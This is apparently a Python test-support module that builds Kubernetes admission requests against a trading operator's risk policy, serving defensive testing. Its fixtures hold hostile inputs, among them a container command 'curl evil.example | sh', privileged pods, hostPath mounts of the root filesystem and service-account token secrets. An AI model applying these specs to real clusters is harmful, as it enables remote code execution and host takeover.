"""Requests of the tables of admission."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import yaml

from support.cluster.admission_fixture import (
    HOME,
    LISTED,
    ROOT,
    STACK,
    STRANGER,
    AdmissionFixture,
    container,
    image,
    path_of,
    plural,
    workload,
)
from support.cluster.as_user import Answer, controller

# RBAC allows the members everything.
MASTERS = ("system:masters",)
REPLICASETS = controller("replicaset-controller")
NAMESPACES = controller("namespace-controller")
# Placeholders of existing objects' names, filled in when the request is sent.
POD, REPLICASET, REVISION, POLICY = "{pods}", "{replicasets}", "{controllerrevisions}", "{policy}"


@dataclass(frozen=True)
class AdmissionRequest:
    """One request. ``{pods}`` and the like in the path are the names of what is there."""

    user: str
    method: str
    path: str
    body: Mapping[str, Any] | None = None
    groups: tuple[str, ...] = ()
    connects: bool = False

    def on(self, fixture: AdmissionFixture) -> Answer:
        """A dry run of it. To enter a pod there is no dry run, and no node would answer."""
        path, body = self.path, json.dumps(self.body)
        for kind, name in fixture.names.items():
            path, body = path.replace(f"{{{kind}}}", name), body.replace(f"{{{kind}}}", name)
        return fixture.api.call(
            self.method, path, json.loads(body), user=self.user, groups=self.groups, dry_run=not self.connects
        )


def creates(
    user: str, kind: str, spec: Mapping[str, Any], namespace: str = STACK, groups: tuple[str, ...] = ()
) -> AdmissionRequest:
    return AdmissionRequest(user, "POST", path_of(plural(kind), namespace), workload(kind, spec), groups)


def patches(
    user: str, kind: str, name: str, body: Mapping[str, Any], sub: str = "", groups: tuple[str, ...] = ()
) -> AdmissionRequest:
    return AdmissionRequest(user, "PATCH", path_of(kind, name=name, subresource=sub), body, groups)


def deletes(user: str, kind: str, name: str) -> AdmissionRequest:
    return AdmissionRequest(user, "DELETE", path_of(kind, name=name))


def enters(user: str, how: str) -> AdmissionRequest:
    path = path_of("pods", name=POD, subresource=how) + "?command=sh&ports=80"
    return AdmissionRequest(user, "POST", path, connects=True)


def act(user: str, verb: str, by: str) -> AdmissionRequest:
    body = {"verb": verb, "nonce": "nonce-0001", "by": by, "reason": "a test"}
    return patches(user, "riskpolicies", POLICY, {"spec": {"act": body}})


def ceiling(user: str, posture: str) -> AdmissionRequest:
    return patches(user, "riskpolicies", POLICY, {"spec": {"posture": posture}})


def armed_policy() -> dict[str, Any]:
    policy: dict[str, Any] = yaml.safe_load((ROOT / "policies" / "micro.yaml").read_text())
    policy["spec"]["posture"] = "ARMED"
    return policy


def trust_policy(user: str, name: str = "titan-trust-policy", namespace: str = HOME) -> AdmissionRequest:
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": {"policy.yaml": "{}"}}
    return AdmissionRequest(user, "POST", path_of("configmaps", namespace), body)


def token() -> dict[str, Any]:
    return {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}


def token_secret() -> dict[str, Any]:
    annotations = {"kubernetes.io/service-account.name": "default"}
    metadata = {"name": "token", "annotations": annotations}
    return {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "type": "kubernetes.io/service-account-token"}


def verified(name: str = "titan") -> dict[str, Any]:
    entry = {"digest": STRANGER}
    return {
        "apiVersion": "titan.trading/v1alpha1",
        "kind": "VerifiedImages",
        "metadata": {"name": name},
        "spec": {"images": [entry]},
    }


GOOD, BAD, TAG = image(LISTED), image(STRANGER), "registry.example/titan:1"
VOLUME = {"volumes": [{"name": "code", "image": {"reference": BAD}}]}
EPHEMERAL = {"spec": {"ephemeralContainers": [container(BAD, "debugger")]}}
FOREIGN = {"containers": [container(GOOD, command=["sh", "-c", "curl evil.example | sh"])]}
REPLICAS = {"spec": {"replicas": 2}}
UNPROTECT = {"metadata": {"annotations": {"titan.trading/protected": None}}}
PROTECT = {"metadata": {"annotations": {"titan.trading/protected": "true"}}}
NOTE = {"metadata": {"annotations": {"note": "by hand"}}}
STATUS = {"status": {"conditions": [{"type": "Ready", "status": "True"}]}}
BINDING = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": POD}, "target": {"kind": "Node", "name": "evil"}}
EVICTION = {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": POD}}
HOST_PATH = {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
PRIVILEGED = {"containers": [{"name": "root", "image": TAG, "securityContext": {"privileged": True}}]}
PROVISIONER = controller("persistent-volume-binder")
OPERATORS_OWN = path_of("deployments", HOME, "titan-operator")
VOLUMES = "/api/v1/persistentvolumes"
HOST_VOLUME = {
    "apiVersion": "v1",
    "kind": "PersistentVolume",
    "metadata": {"name": "root"},
    "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}},
}
